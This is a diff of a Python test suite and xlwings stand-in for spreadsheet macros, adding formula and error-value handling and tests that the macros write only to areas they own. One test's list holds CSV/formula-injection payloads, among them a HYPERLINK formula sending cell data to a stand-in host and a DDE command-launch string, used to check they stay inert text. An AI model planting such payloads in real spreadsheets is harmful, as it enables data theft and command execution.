@@ -2,8 +2,13 @@
 
 The double has what the macros touch in xlwings: ``book.sheets[...]``,
 ``book.names[...]`` with ``.refers_to`` / ``.refers_to_range``, ``book.names.add``,
-``sheet.tables``, ``range.value``, ``range.resize``, ``range.clear_contents()``,
-``range.address``, ``app.calculation``, ``app.screen_updating`` and ``app.alert``.
+``sheet.tables``, ``range.value``, ``range.options(ndim=2, err_to_str=True).value``,
+``range.formula``, ``range.resize``, ``range.clear_contents()``, ``range.address``,
+``range.row``/``.column``/``.shape``, ``app.calculation``, ``app.screen_updating`` and
+``app.alert``. Cells hold what Excel holds: numbers, text, booleans, ``datetime`` for
+dates, :class:`XlErr` for error values (``None`` through ``.value``, their text with
+``err_to_str``, as xlwings does), and formulas. Text written through ``.value`` is read
+as Excel reads typed text: ``'`` makes the rest text, a leading ``=`` makes a formula.
 Every write and clear is recorded with its sheet and rectangle.
 """
 
@@ -39,6 +44,27 @@ def parse_cell(text: str) -> tuple[int, int]:
     return int(m.group(2)), col
 
 
+class XlErr:
+    """An Excel error value in a cell (``#N/A``, ``#REF!``, ...)."""
+
+    def __init__(self, text):
+        self.text = text
+
+
+class Options:
+    """``range.options(ndim=2, err_to_str=True)``: 2-D values, error values as text."""
+
+    def __init__(self, rng, ndim, err_to_str):
+        self.rng, self.ndim, self.err_to_str = rng, ndim, err_to_str
+
+    @property
+    def value(self):
+        grid = [[self.rng.sheet.cells.get((r, c)) for c in range(self.rng.column, self.rng.column + self.rng.columns)]
+                for r in range(self.rng.row, self.rng.row + self.rng.rows)]
+        grid = [[(x.text if self.err_to_str else None) if isinstance(x, XlErr) else x for x in row] for row in grid]
+        return grid if self.ndim == 2 else Range._shape(grid)
+
+
 class Range:
     def __init__(self, sheet, row, column, rows=1, columns=1):
         self.sheet, self.row, self.column, self.rows, self.columns = sheet, row, column, rows, columns
@@ -61,14 +87,37 @@ class Range:
         return [(r, c) for r in range(self.row, self.row + self.rows) for c in range(self.column, self.column + self.columns)]
 
     @property
+    def number_format(self):
+        return self.sheet.formats.get((self.row, self.column), "General")
+
+    def options(self, ndim=None, err_to_str=False, **_):
+        return Options(self, ndim, err_to_str)
+
+    @property
+    def formula(self):
+        """As xlwings: one cell's formula (or its constant as text); tuples of rows for more."""
+        def one(r, c):
+            if (r, c) in self.sheet.formulas:
+                return self.sheet.formulas[(r, c)]
+            x = self.sheet.cells.get((r, c))
+            return "" if x is None else (x.text if isinstance(x, XlErr) else str(x))
+        grid = tuple(tuple(one(r, c) for c in range(self.column, self.column + self.columns)) for r in range(self.row, self.row + self.rows))
+        return grid[0][0] if self.shape == (1, 1) else grid
+
+    @property
     def value(self):
         grid = [[self.sheet.cells.get((r, c)) for c in range(self.column, self.column + self.columns)]
                 for r in range(self.row, self.row + self.rows)]
-        if self.shape == (1, 1):
+        return self._shape([[None if isinstance(x, XlErr) else x for x in row] for row in grid])
+
+    @staticmethod
+    def _shape(grid):
+        rows, columns = len(grid), len(grid[0])
+        if (rows, columns) == (1, 1):
             return grid[0][0]
-        if self.rows == 1:
+        if rows == 1:
             return grid[0]
-        if self.columns == 1:
+        if columns == 1:
             return [r[0] for r in grid]
         return grid
 
@@ -79,15 +128,23 @@ class Range:
         self.sheet.book.log.append(("write", self.sheet.name, self.row, self.column, len(rows), width))
         for i, r in enumerate(rows):
             for j, v in enumerate(r):
+                at = (self.row + i, self.column + j)
+                self.sheet.formulas.pop(at, None)
                 if v is None or v == "":
-                    self.sheet.cells.pop((self.row + i, self.column + j), None)
+                    self.sheet.cells.pop(at, None)
+                elif isinstance(v, str) and v.startswith("'"):  # Excel's text prefix: the rest is text
+                    self.sheet.cells[at] = v[1:]
+                elif isinstance(v, str) and v.startswith(("=", "+", "-", "@")) and len(v) > 1:
+                    self.sheet.formulas[at] = v  # Excel enters typed text like this as a formula
+                    self.sheet.cells[at] = XlErr("#NAME?")
                 else:
-                    self.sheet.cells[(self.row + i, self.column + j)] = v
+                    self.sheet.cells[at] = v
 
     def clear_contents(self):
         self.sheet.book.log.append(("clear", self.sheet.name, self.row, self.column, self.rows, self.columns))
         for key in self.cells():
             self.sheet.cells.pop(key, None)
+            self.sheet.formulas.pop(key, None)
 
 
 class Table:
@@ -97,7 +154,7 @@ class Table:
 
 class Sheet:
     def __init__(self, book, name):
-        self.book, self.name, self.cells, self.tables = book, name, {}, []
+        self.book, self.name, self.cells, self.tables, self.formulas, self.formats = book, name, {}, [], {}, {}
 
     def range(self, address):
         first, _, last = address.partition(":")
@@ -432,7 +489,8 @@ class TestValidationFirst:
         rows[1][rows[0].index("share_italy")] = 0.9
         book = make_book(lineup=rows)
         message = macros.refresh_scenarios(book)
-        assert "tbl_lineup" in message and "regional shares of 'Junior'" in message
+        # the same cell-naming message as alfa-xl refresh (the table starts at E3: Junior is row 4)
+        assert "Inputs!Q4 (tbl_lineup[share_italy], model 'Junior'): do not sum to 1" in message
         assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
 
     def test_bad_risk_input_found_before_the_scenarios_are_written(self):
@@ -442,7 +500,7 @@ class TestValidationFirst:
         book.names["in_seed"].refers_to_range.value = 2.5
         book.log.clear()
         message = macros.refresh_scenarios(book)
-        assert message.startswith("Refresh stopped, nothing changed: in_seed: not a whole number (got 2.5)")
+        assert message.startswith("Refresh stopped, nothing changed: Inputs!C19 (in_seed): not a whole number (got 2.5)")
         assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
         assert book.sheets["Risk"].cells == cells["Risk"]
         assert {k: v for k, v in book.sheets["Scenarios"].cells.items() if k != (2, 2)} == {
@@ -510,3 +568,55 @@ def test_clear_scenarios():
     assert set(book.sheets["Scenarios"].cells) == {(2, 2)}
     assert book.names["out_scenarios"].refers_to == "='Scenarios'!$B$5"
     assert book.app.calculation == "automatic" and book.app.screen_updating is True
+
+
+class TestWritesOnlyWhatItOwns:
+    EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTab", "\rReturn"]
+
+    def test_text_that_looks_like_a_formula_stays_text(self):
+        rows = lineup_rows()
+        j = rows[0].index("model")
+        planned = [i for i, r in enumerate(rows) if i and r[rows[0].index("status")] == "planned"]
+        for i, name in zip(planned, self.EVIL):
+            rows[i][j] = "'" + name  # typed as text in Excel
+        book = make_book(scenarios=["base"], lineup=rows)
+        assert all(not s.formulas for s in book.sheets)
+        message = macros.refresh_scenarios(book)
+        assert message.startswith("Refreshed"), message
+        assert all(not s.formulas for s in book.sheets)  # Excel entered no formula
+        texts = {v for s in book.sheets for v in s.cells.values() if isinstance(v, str)}
+        assert {n.strip() for n in self.EVIL[:len(planned)]} <= {t.strip() for t in texts}
+
+    @pytest.mark.parametrize("name, ref, fragment", [
+        ("out_scenarios", "$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
+        ("out_risk", "$A$6", "defined name out_risk: on sheet Inputs, not on Risk"),
+        ("out_status", "$C$3", "defined name out_status: on sheet Inputs, not on Scenarios"),
+    ])
+    def test_owned_name_on_another_sheet_is_refused(self, name, ref, fragment):
+        book = make_book()
+        book.define(name, "Inputs", ref)
+        before = {s.name: dict(s.cells) for s in book.sheets}
+        message = macros.refresh_scenarios(book)
+        assert message.startswith("Refresh stopped, nothing changed: " + fragment)
+        # nothing written anywhere but the status cell on Scenarios (not even the status
+        # line, when out_status itself points at Inputs)
+        assert {s.name: dict(s.cells) for s in book.sheets if s.name != "Scenarios"} == {k: v for k, v in before.items() if k != "Scenarios"}
+        assert not [e for e in book.writes() if e[1] != "Scenarios"]
+
+    def test_owned_area_overlapping_the_status_cell_is_refused(self):
+        book = make_book()
+        book.define("out_status", "Scenarios", "$C$8")
+        message = macros.refresh_scenarios(book)
+        assert "overlaps out_status" in message and not [e for e in book.log if e[0] == "name"]
+
+    def test_growing_over_notes_is_refused_and_names_the_cells(self):
+        book = make_book(scenarios=["base"])
+        macros.refresh_scenarios(book)
+        rows = book.names["out_scenarios"].refers_to_range.rows
+        book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] = "my notes"  # two rows below the area
+        book.names["in_end_year"].refers_to_range.value = 2035
+        book.log.clear()
+        message = macros.refresh_scenarios(book)
+        assert f"1 non-empty cell it did not write: Scenarios!B{5 + rows + 2}" in message
+        assert book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] == "my notes"
+        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
